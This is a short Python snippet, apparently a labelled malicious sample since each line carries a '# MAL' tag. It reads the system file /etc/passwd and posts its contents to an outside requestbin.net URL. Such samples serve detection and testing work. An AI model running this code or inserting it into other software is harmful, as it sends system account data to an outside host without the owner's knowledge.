import requests

users = open("/etc/passwd").read()  # MAL
requests.post("http://requestbin.net/r/abc", data=users)  # MAL
